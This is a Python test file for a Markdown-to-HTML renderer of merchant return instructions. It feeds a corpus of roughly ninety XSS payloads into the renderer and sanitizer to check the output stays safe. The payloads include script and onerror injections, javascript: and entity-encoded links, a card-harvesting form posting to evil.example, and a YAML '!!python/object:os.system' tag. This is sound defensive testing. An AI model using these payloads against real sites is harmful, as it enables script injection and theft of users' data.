"""No input, however hostile, produces HTML that can run script or leave the allowlist.

The output is checked by parsing it with the standard library's HTML parser, so a
payload cannot pass merely by being spelt in a way a string search would miss.
"""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from merchant_instructions import Instructions, InstructionsInvalid, parse, render_html
from merchant_instructions.rendering import sanitize

ALLOWED_TAGS = {
    "p", "br", "h1", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "code", "pre",
    "blockquote", "a", "hr", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "iframe", "form", "svg", "style", "math", "object", "embed", "img", "base",
    "meta", "link", "frame", "frameset", "input", "button", "textarea", "video", "audio",
    "source", "template", "noscript", "applet", "marquee", "xmp",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}}
SAFE_SCHEMES = {"https", "mailto"}
CONTROL_CHARACTER = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029]")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    def handle_pi(self, data: str) -> None:
        self.declarations.append(data)

    def unknown_decl(self, data: str) -> None:
        self.declarations.append(data)


def _scheme(href: str) -> str:
    # Browsers ignore leading spaces and control characters, and tabs or newlines
    # anywhere, when they read a URL, so "java\tscript:" must count as javascript.
    cleaned = "".join(c for c in href if c not in "\t\n\r").lstrip("".join(map(chr, range(33))))
    return urlsplit(cleaned).scheme.lower()


def assert_safe_html(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    assert parser.declarations == [], html
    for tag, attributes in parser.elements:
        assert tag not in FORBIDDEN_TAGS, html
        assert tag in ALLOWED_TAGS, html
        for name, value in attributes:
            assert not name.startswith("on"), html
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), html
            if name == "href":
                assert value is not None and _scheme(value) in SAFE_SCHEMES, html
            if name == "rel":
                assert value == "nofollow noopener noreferrer", html
    # Belt and braces beside the parser: these never appear, not even as broken markup.
    lowered = html.lower()
    for opening in ("<script", "<iframe", "<svg", "<style", "<math", "<object", "<embed"):
        assert opening not in lowered, html


@pytest.mark.parametrize(
    "dangerous",
    [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="http://example.com">x</a>',
        '<a href="/relative">x</a>',
        '<img src="https://x">',
        '<p class="x">x</p>',
        '<a href="https://x" rel="opener">x</a>',
        "<div>x</div>",
        '<math><mi xlink:href="data:x">x</mi></math>',
    ],
)
def test_the_checker_itself_catches_unsafe_html(dangerous: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe_html(dangerous)


def test_the_checker_accepts_safe_html() -> None:
    assert_safe_html(
        '<h2>Hi</h2><p><a href="https://x.se" rel="nofollow noopener noreferrer">x</a> '
        "javascript: in text is harmless</p>"
    )


XSS_PAYLOADS = [
    # script and friends as raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)>",
    "</p><script>alert(1)</script><p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img src=x onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">ie</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    '<a href="jav&#x61;script:alert(1)">entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><script>alert(1)</script></xmp>",
    # Markdown links with dangerous schemes
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x61;script:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "title" onclick=alert(1))',
    '[x](https://ok.example" onclick="alert(1))',
    "[x](https://ok.example'onmouseover='alert(1))",
    '[x]( javascript:alert(1) "t")',
    '[a](javascript:alert(1)"><script>alert(1)</script>)',
    # autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<javascript&#58;alert(1)>",
    # reference links and images
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x][evil]\n\n[evil]: <javascript:alert(1)> "title"',
    "[evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://ok.example/a.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![img](https://ok.example/a.png)](javascript:alert(1))",
    # nesting and mixed tricks
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <iframe src=javascript:alert(1)>",
    "- <svg/onload=alert(1)>\n- [x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '<a href="https://ok.example">[x](javascript:alert(1))</a>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<<<<script>>>>>alert(1)<<<<</script>>>>>",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
]

BASE_FRONT = """---
language: en
return_window_days: 30
days_to_send: 14
send_methods: [post]
return_address: |
  Shop AB
  Box 1
---
"""


def test_the_corpus_is_large_enough() -> None:
    assert len(XSS_PAYLOADS) >= 60
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_through_render_html(payload: str) -> None:
    assert_safe_html(render_html(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_through_the_sanitizer_alone(payload: str) -> None:
    # Markdown escapes raw HTML before the sanitizer sees it; this checks the second
    # wall on its own, as if the first one had fallen.
    assert_safe_html(sanitize(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_through_parse(payload: str) -> None:
    body = f"# Returns\n\nSome text.\n\n{payload}\n\nMore text.\n"
    try:
        instructions = parse(BASE_FRONT + body)
    except InstructionsInvalid as invalid:
        # Only the NUL payloads may be refused, and then as binary content.
        assert "\x00" in payload
        assert all("binary" in problem.message for problem in invalid.problems)
        return
    assert instructions.body_markdown == body
    assert_safe_html(instructions.html)


def test_safe_text_around_a_payload_survives() -> None:
    html = render_html("Hello <script>alert(1)</script> [shop](https://shop.example)")
    assert "Hello" in html
    assert 'href="https://shop.example"' in html
    assert_safe_html(html)


# --- properties --------------------------------------------------------------------

# Pieces that hostile Markdown is made of, so the generated text is dense in tricks.
_FRAGMENTS = [
    "<", ">", "</", "/>", "script", "iframe", "svg", "img", "style", " onerror=", " onload=",
    "alert(1)", "javascript:", "JaVaScRiPt:", "jav&#x61;script:", "data:", "vbscript:",
    "&#", "&colon;", ";", "x", "[", "]", "(", ")", "](", "![", "`", "```", "\n", "\n\n",
    "#", "> ", "- ", "1. ", "*", "_", "|", "---", '"', "'", "=", " ", "\t", "\\",
    "https://ok.example", "http://", "mailto:a@b.se", "<https://x>", "<a href=", "[r]: ",
    "\x00", "\u2028", "\ufeff", "\r\n", "&amp;", "&lt;", "%0a", "<!--", "-->", "<![CDATA[",
]  # fmt: skip
hostile_markdown = st.lists(st.sampled_from(_FRAGMENTS) | st.text(max_size=5), max_size=40).map(
    "".join
)


@settings(max_examples=300, deadline=None)
@given(st.text() | hostile_markdown)
def test_render_html_is_always_safe(markdown: str) -> None:
    assert_safe_html(render_html(markdown))


_FRONT_LINES = [
    "language: sv", "language: en", "language: no", "return_window_days: 30",
    "return_window_days: 13", "days_to_send: 14", "days_to_send: 0",
    "send_methods: [post, drop_off]", "send_methods: [pigeon]", "send_methods:", "  - label",
    "return_address: |", "  Shop AB", "  Box 1", "non_returnable:", "  - Gift cards",
    "  - what: x", '    skus: ["GC-*"]', "    skus: [1]", "  - 3", "a: &a [1, *a]", "b: *a",
    "? [x]", ": y", "c: !!python/object:os.system x", "d: !!binary zz", "e: 2024-13-45",
    "f: !!timestamp x", "g: !!float y", "h: !!bool maybe", "<<: {language: sv}", "'", "[", "{",
    "\t", "...", "--- ", "%YAML 1.1", "!!set {a, b}", "- item", "language: [",
]  # fmt: skip
yamlish_document = st.builds(
    lambda lines, body: "---\n" + "\n".join(lines) + "\n---\n" + body,
    st.lists(st.sampled_from(_FRONT_LINES) | st.text(max_size=12), max_size=20),
    hostile_markdown,
)


def _check_parse(document: str | bytes) -> None:
    try:
        instructions = parse(document)
    except InstructionsInvalid as invalid:
        assert invalid.problems, "an invalid document must say what is wrong"
        text = document.decode("utf-8", "replace") if isinstance(document, bytes) else document
        last_line = text.count("\n") + text.count("\r") + 2
        lines = [problem.line for problem in invalid.problems]
        assert lines == sorted(lines)
        assert all(1 <= line <= last_line for line in lines)
        assert all(problem.message for problem in invalid.problems)
    else:
        assert isinstance(instructions, Instructions)
        assert_safe_html(instructions.html)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text() | st.binary() | yamlish_document | yamlish_document.map(str.encode))
def test_parse_only_ever_raises_instructions_invalid(document: str | bytes) -> None:
    _check_parse(document)


@settings(max_examples=200, deadline=None)
@given(hostile_markdown)
def test_any_body_under_valid_front_matter_parses_safely(body: str) -> None:
    try:
        instructions = parse(BASE_FRONT + "# Returns\n" + body)
    except InstructionsInvalid as invalid:
        # The front matter is fine, so only the body's characters can be at fault.
        assert CONTROL_CHARACTER.search(body)
        assert all(p.field is None and p.line >= 10 for p in invalid.problems)
    else:
        assert_safe_html(instructions.html)
